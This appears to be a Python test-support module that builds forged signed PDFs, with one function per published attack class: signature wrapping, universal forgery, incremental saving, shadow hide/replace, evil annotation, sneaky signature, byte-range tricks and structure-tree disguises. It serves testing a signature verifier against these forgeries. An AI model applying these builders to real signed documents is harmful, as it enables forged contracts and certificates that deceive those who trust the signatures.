"""Forged signed PDFs, one builder per published attack class, written for these tests.

The classes (Mladenov et al. 2019; Mainka et al. 2021): Universal Signature Forgery (USF),
Incremental Saving Attack (ISA), Signature Wrapping Attack (SWA), shadow attacks (hide, replace,
hide-and-replace), Evil Annotation and Sneaky Signature attacks on certified documents (EAA, SSA),
and byte-range tricks; plus the two classes that still passed here: files whose cross-reference
data must be rebuilt, and structure-tree changes that disguise content. Every builder starts from a
file the test PKI signed and returns the forged bytes; none of them needs a private key.
"""

from __future__ import annotations

import re
from io import BytesIO
from typing import cast

from asn1crypto import core
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

FORGED_TEXT = b"BT /F1 14 Tf 72 770 Td (Noi dung gia mao) Tj ET"
_BYTE_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")
BYTE_RANGE_TRICKS = (
    "not_from_zero", "gap_too_small", "gap_too_large", "past_the_end", "short_of_the_end", "six_numbers",
    "negative", "reals",
)
UNIVERSAL_FORGERIES = (
    "contents_zeroed", "contents_key_renamed", "byte_range_key_renamed", "byte_range_null", "byte_range_zeroes",
    "filter_removed",
)


def _reader(data: bytes) -> PdfFileReader:
    return PdfFileReader(BytesIO(data), strict=False)


def _last_startxref(reader: PdfFileReader) -> int:
    # pyHanko declares the attribute as a class-level None; every reader sets the offset it read.
    return cast(int, reader.last_startxref)


def _writer(data: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(BytesIO(data), strict=False)


def _written(writer: IncrementalPdfFileWriter) -> bytes:
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _override(writer: IncrementalPdfFileWriter, ref: generic.Reference, obj: generic.PdfObject) -> None:
    writer.objects[(ref.generation, ref.idnum)] = obj


def _last_byte_range(data: bytes) -> tuple[int, int, int, re.Match[bytes]]:
    match = list(_BYTE_RANGE.finditer(data))[-1]
    _, a, b, c = (int(g) for g in match.groups())
    return a, b, c, match


def _page_content_ref(data: bytes) -> generic.Reference:
    page = _reader(data).root["/Pages"]["/Kids"][0]
    contents = page.raw_get("/Contents")
    assert isinstance(contents, generic.IndirectObject)
    return contents.reference


def _stream_object(number: int, content: bytes, extra: bytes = b"") -> bytes:
    return b"%d 0 obj\n<< /Length %d %s>>\nstream\n%s\nendstream\nendobj\n" % (number, len(content), extra, content)


# --- Signature Wrapping and the byte range ---------------------------------------------------


def wrapped_gap(signed: bytes, forged: bytes = FORGED_TEXT) -> bytes:
    """SWA: a second /ByteRange in the gap (a reader keeping the first definition uses it) moves the
    signed tail further down; in between, inside a string, a new definition of the page's content.
    The offsets after the gap move, so the cross-reference data must be rebuilt by scanning, and
    a scanning reader shows the forged content (the later definition)."""
    a, b, c, _ = _last_byte_range(signed)
    injected = _stream_object(_page_content_ref(signed).idnum, forged)
    moved = b
    while True:
        prefix = b"/ByteRange [0 %d %d %d] /Wrapped (" % (a, moved, c) + injected + b")"
        if b + len(prefix) == moved:
            break
        moved = b + len(prefix)
    return signed[:b] + prefix + signed[b:]


def contents_rewritten(signed: bytes, forged: bytes = FORGED_TEXT) -> bytes:
    """The gap keeps its length, but the signature value is cut short and followed by a complete
    copy of the signature dictionary (same object number, later, so it wins when the file is
    rebuilt) and a new definition of the page's content. The signed bytes are untouched."""
    a, b, _, _ = _last_byte_range(signed)
    header = list(re.finditer(rb"(\d+) 0 obj", signed[:a]))[-1]
    number = int(header.group(1))
    value = bytes.fromhex(signed[a + 1 : b - 1].decode())
    der_length = len(core.Asn1Value.load(value, strict=False).dump())
    tail_end = signed.index(b">>", b)
    value_hex = value[:der_length].hex().encode()
    copy = b"%d 0 obj\n<<\n/Contents <%s>%s>>\nendobj\n" % (number, value_hex, signed[b:tail_end])
    # The cut-short value ends in a byte no hex string may hold: the original dictionary no longer
    # parses, a reader finds no signature through the form, and falls back to scanning.
    gap = b"<00\x01>>\nendobj\n" + copy + _stream_object(_page_content_ref(signed).idnum, forged)
    if len(gap) > b - a:
        raise ValueError("the signature value leaves too little room")
    return signed[:a] + gap + b" " * (b - a - len(gap)) + signed[b:]


def byte_range_tricks(signed: bytes) -> dict[str, bytes]:
    """Byte ranges a careless verifier accepts; every one keeps the file's length and offsets."""
    a, b, c, match = _last_byte_range(signed)
    end = match.end()
    while signed[end : end + 1] == b" ":  # signers leave room after the array for its final digits
        end += 1
    width = end - match.start()

    def with_range(text: bytes) -> bytes:
        padded = text.ljust(width)
        assert len(padded) == width, text
        return signed[: match.start()] + padded + signed[end:]

    return {
        "not_from_zero": with_range(b"/ByteRange [1 %d %d %d]" % (a - 1, b, c)),
        "gap_too_small": with_range(b"/ByteRange [0 %d %d %d]" % (a, b - 2, c + 2)),
        "gap_too_large": with_range(b"/ByteRange [0 %d %d %d]" % (a - 2, b, c)),
        "past_the_end": with_range(b"/ByteRange [0 %d %d %d]" % (a, b, c + 4096)),
        "short_of_the_end": with_range(b"/ByteRange [0 %d %d %d]" % (a, b, c - 7)),
        "six_numbers": with_range(b"/ByteRange [0 %d %d %d 0 0]" % (a, b, c)),
        "negative": with_range(b"/ByteRange [0 %d %d -%d]" % (a, b, c)),
        "reals": with_range(b"/ByteRange [0 %d.0 %d %d]" % (a, b, c)),
    }


# --- Universal Signature Forgery -----------------------------------------------------------------


def universal_forgeries(signed: bytes) -> dict[str, bytes]:
    """USF: signature dictionaries a viewer cannot check and might still display as signed."""
    a, b, _, match = _last_byte_range(signed)
    hex_zeros = b"<" + b"0" * (b - a - 2) + b">"
    return {
        "contents_zeroed": signed[:a] + hex_zeros + signed[b:],
        "contents_key_renamed": signed.replace(b"/Contents <", b"/Contentz <", 1),
        "byte_range_key_renamed": signed[: match.start()] + b"/ByteRangz" + signed[match.start() + 10 :],
        "byte_range_null": signed[: match.start()] + b"/ByteRange null".ljust(match.end() - match.start())
        + signed[match.end() :],
        "byte_range_zeroes": signed[: match.start()] + b"/ByteRange [0 0 0 0]".ljust(match.end() - match.start())
        + signed[match.end() :],
        "filter_removed": signed.replace(b"/SubFilter /adbe.pkcs7.detached", b"/SubFiltex /adbe.pkcs7.detached", 1),
    }


# --- Incremental Saving Attack ---------------------------------------------------------------


def _raw_update(
    data: bytes, objects: list[bytes], numbers: list[int], *, xref: bool = True, prev: bool = True,
    old_startxref: bool = False, eof: bool = True,
) -> bytes:
    reader = _reader(data)
    trailer = reader.trailer
    root = trailer.raw_get("/Root").reference
    size = int(trailer["/Size"])
    out = data if data.endswith(b"\n") else data + b"\n"
    offsets = []
    for body in objects:
        offsets.append(len(out))
        out += body
    if xref:
        at = len(out)
        rows = b"".join(b"%d 1\n%010d 00000 n \n" % (n, o) for n, o in zip(numbers, offsets, strict=True))
        entries = b"/Size %d /Root %d %d R" % (max(size, max(numbers) + 1), root.idnum, root.generation)
        if prev:
            entries += b" /Prev %d" % _last_startxref(reader)
        out += b"xref\n" + rows + b"trailer\n<< " + entries + b" >>\nstartxref\n%d\n" % at
    elif old_startxref:
        out += b"startxref\n%d\n" % _last_startxref(reader)
    if eof:
        out += b"%%EOF\n"
    return out


def _page_with_contents(data: bytes, content_number: int) -> tuple[int, bytes]:
    reader = _reader(data)
    page_ref = reader.root["/Pages"]["/Kids"].raw_get(0).reference
    page = reader.get_object(page_ref)
    page = generic.DictionaryObject(dict(page.items()))
    page[generic.NameObject("/Contents")] = generic.IndirectObject(content_number, 0, reader)
    stream = BytesIO()
    page.write_to_stream(stream, None)
    return page_ref.idnum, b"%d 0 obj\n" % page_ref.idnum + stream.getvalue() + b"\nendobj\n"


def incremental_saving(signed: bytes) -> dict[str, bytes]:
    """ISA: a new page content appended after the signature, with the cross-reference data in every
    shape a reader may or may not follow."""
    size = int(_reader(signed).trailer["/Size"])
    page_number, page = _page_with_contents(signed, size)
    objects = [_stream_object(size, FORGED_TEXT), page]
    numbers = [size, page_number]
    return {
        "with_xref": _raw_update(signed, objects, numbers),
        "without_prev": _raw_update(signed, objects, numbers, prev=False),
        "without_xref": _raw_update(signed, objects, numbers, xref=False),
        "old_startxref": _raw_update(signed, objects, numbers, xref=False, old_startxref=True),
        "no_eof": _raw_update(signed, objects, numbers, xref=False, eof=False),
    }


def update_without_endstream(signed: bytes) -> bytes:
    """Shadow hide whose manipulated revision cannot be parsed: a stream missing its ``endstream``."""
    size = int(_reader(signed).trailer["/Size"])
    page_number, page = _page_with_contents(signed, size)
    broken = b"%d 0 obj\n<< /Length %d >>\nstream\n%s\nendobj\n" % (size, len(FORGED_TEXT), FORGED_TEXT)
    return _raw_update(signed, [broken, page], [size, page_number])


def update_hiding_overlay(signed: bytes) -> bytes:
    """Shadow hide: the page's content array loses the stream that covered hidden text."""
    writer = _writer(signed)
    page_ref = writer.root["/Pages"]["/Kids"].raw_get(0)
    page = page_ref.get_object()
    contents = page["/Contents"]
    if isinstance(contents, generic.ArrayObject):
        page[generic.NameObject("/Contents")] = contents.raw_get(0)
    writer.mark_update(page_ref)
    return _written(writer)


def update_replacing_font(signed: bytes) -> bytes:
    """Shadow replace: the page's font is redefined (a font can map glyphs to anything)."""
    writer = _writer(signed)
    page = writer.root["/Pages"]["/Kids"][0]
    font_ref = page["/Resources"]["/Font"].raw_get("/F1")
    font = generic.DictionaryObject(dict(font_ref.get_object().items()))
    font[generic.NameObject("/BaseFont")] = generic.NameObject("/Courier")
    _override(writer, font_ref.reference, font)
    return _written(writer)


def update_switching_pages(signed: bytes) -> bytes:
    """Shadow hide-and-replace: the catalog is pointed at a second page tree (the forged one)."""
    writer = _writer(signed)
    content = writer.add_object(generic.StreamObject(stream_data=FORGED_TEXT))
    pages = writer.add_object(generic.DictionaryObject({
        generic.NameObject("/Type"): generic.NameObject("/Pages"),
        generic.NameObject("/Kids"): generic.ArrayObject(),
        generic.NameObject("/Count"): generic.NumberObject(1),
    }))
    page = writer.add_object(generic.DictionaryObject({
        generic.NameObject("/Type"): generic.NameObject("/Page"),
        generic.NameObject("/Parent"): pages,
        generic.NameObject("/MediaBox"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 595, 842)]),
        generic.NameObject("/Contents"): content,
    }))
    pages.get_object()["/Kids"].append(page)
    writer.root[generic.NameObject("/Pages")] = pages
    writer.update_root()
    return _written(writer)


# --- The structure tree ----------------------------------------------------------------------


def _tree(writer: IncrementalPdfFileWriter) -> tuple[generic.IndirectObject, generic.DictionaryObject]:
    ref = writer.root.raw_get("/StructTreeRoot")
    return ref, ref.get_object()


def struct_tree_disguised_stream(tagged_signed: bytes) -> bytes:
    """The page's content stream, rewritten with a dummy /S and linked from the tree's /K."""
    writer = _writer(tagged_signed)
    tree_ref, tree = _tree(writer)
    content_ref = writer.root["/Pages"]["/Kids"][0].raw_get("/Contents")
    stream = generic.StreamObject(
        {generic.NameObject("/S"): generic.NameObject("/P"), generic.NameObject("/P"): tree_ref},
        stream_data=FORGED_TEXT,
    )
    _override(writer, content_ref.reference, stream)
    tree["/K"].append(content_ref)
    writer.mark_update(tree_ref)
    return _written(writer)


def struct_tree_disguised_font(tagged_signed: bytes) -> bytes:
    """A dictionary the page uses (its font), made to look like a structure element."""
    writer = _writer(tagged_signed)
    tree_ref, tree = _tree(writer)
    font_ref = writer.root["/Pages"]["/Kids"][0]["/Resources"]["/Font"].raw_get("/F1")
    font = generic.DictionaryObject(dict(font_ref.get_object().items()))
    font[generic.NameObject("/BaseFont")] = generic.NameObject("/Courier")
    font[generic.NameObject("/S")] = generic.NameObject("/Span")
    font[generic.NameObject("/P")] = tree_ref
    _override(writer, font_ref.reference, font)
    tree["/K"].append(font_ref)
    writer.mark_update(tree_ref)
    return _written(writer)


def struct_tree_added(untagged_signed: bytes) -> bytes:
    """A structure tree added, after signing, to a file that had none."""
    writer = _writer(untagged_signed)
    element = writer.add_object(generic.DictionaryObject({
        generic.NameObject("/Type"): generic.NameObject("/StructElem"),
        generic.NameObject("/S"): generic.NameObject("/Document"),
    }))
    tree = writer.add_object(generic.DictionaryObject({
        generic.NameObject("/Type"): generic.NameObject("/StructTreeRoot"),
        generic.NameObject("/K"): generic.ArrayObject([element]),
    }))
    writer.root[generic.NameObject("/StructTreeRoot")] = tree
    writer.update_root()
    return _written(writer)


def tag_signature_widget(tagged_signed: bytes) -> bytes:
    """What tagged-PDF signing software writes with a new signature: a /Form element with an object
    reference to the widget, a parent-tree entry, the root's next key (legitimate, for controls)."""
    writer = _writer(tagged_signed)
    tree_ref, tree = _tree(writer)
    page_ref = writer.root["/Pages"]["/Kids"].raw_get(0)
    key = int(tree.get("/ParentTreeNextKey", 0))
    element = writer.add_object(generic.DictionaryObject({
        generic.NameObject("/Type"): generic.NameObject("/StructElem"),
        generic.NameObject("/S"): generic.NameObject("/Form"),
        generic.NameObject("/P"): tree_ref,
        generic.NameObject("/Pg"): page_ref,
        generic.NameObject("/K"): generic.DictionaryObject({
            generic.NameObject("/Type"): generic.NameObject("/OBJR"),
            generic.NameObject("/Pg"): page_ref,
        }),
    }))
    tree["/K"].append(element)
    parent_tree = tree["/ParentTree"]
    parent_tree["/Nums"].extend([generic.NumberObject(key), element])
    writer.mark_update(tree.raw_get("/ParentTree"))
    tree[generic.NameObject("/ParentTreeNextKey")] = generic.NumberObject(key + 1)
    writer.mark_update(tree_ref)
    return _written(writer)


# --- Certified documents --------------------------------------------------------------------------


def _appearance(writer: IncrementalPdfFileWriter, text: bytes) -> generic.IndirectObject:
    return writer.add_object(generic.StreamObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/XObject"),
            generic.NameObject("/Subtype"): generic.NameObject("/Form"),
            generic.NameObject("/BBox"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 400, 60)]),
        },
        stream_data=b"1 1 1 rg 0 0 400 60 re f BT 0 0 0 rg /Helv 14 Tf 4 20 Td (" + text + b") Tj ET",
    ))


def evil_annotation(signed: bytes) -> bytes:
    """EAA: a FreeText annotation whose appearance covers the text with other text."""
    writer = _writer(signed)
    page_ref = writer.root["/Pages"]["/Kids"].raw_get(0)
    page = page_ref.get_object()
    annot = writer.add_object(generic.DictionaryObject({
        generic.NameObject("/Type"): generic.NameObject("/Annot"),
        generic.NameObject("/Subtype"): generic.NameObject("/FreeText"),
        generic.NameObject("/Rect"): generic.ArrayObject([generic.NumberObject(n) for n in (72, 750, 472, 810)]),
        generic.NameObject("/Contents"): generic.TextStringObject("Noi dung gia mao"),
        generic.NameObject("/DA"): generic.TextStringObject("/Helv 14 Tf 0 g"),
        generic.NameObject("/F"): generic.NumberObject(4),
        generic.NameObject("/AP"): generic.DictionaryObject(
            {generic.NameObject("/N"): _appearance(writer, b"Gia mao")}
        ),
    }))
    annots = page.get("/Annots")
    if isinstance(annots, generic.ArrayObject):
        annots.append(annot)
    else:
        page[generic.NameObject("/Annots")] = generic.ArrayObject([annot])
    writer.mark_update(page_ref)
    return _written(writer)


def sneaky_signature_field(signed: bytes) -> bytes:
    """SSA: an empty signature field added after certification, its widget drawing forged text."""
    from pyhanko.sign.fields import SigFieldSpec, append_signature_field

    writer = _writer(signed)
    append_signature_field(writer, SigFieldSpec("ChuKyThem", box=(72, 750, 472, 810)))
    for field_ref in writer.root["/AcroForm"]["/Fields"]:
        field = field_ref.get_object() if isinstance(field_ref, generic.IndirectObject) else field_ref
        if field.get("/T") == "ChuKyThem":
            field[generic.NameObject("/AP")] = generic.DictionaryObject(
                {generic.NameObject("/N"): _appearance(writer, b"Gia mao")}
            )
            writer.update_container(field)
    return _written(writer)
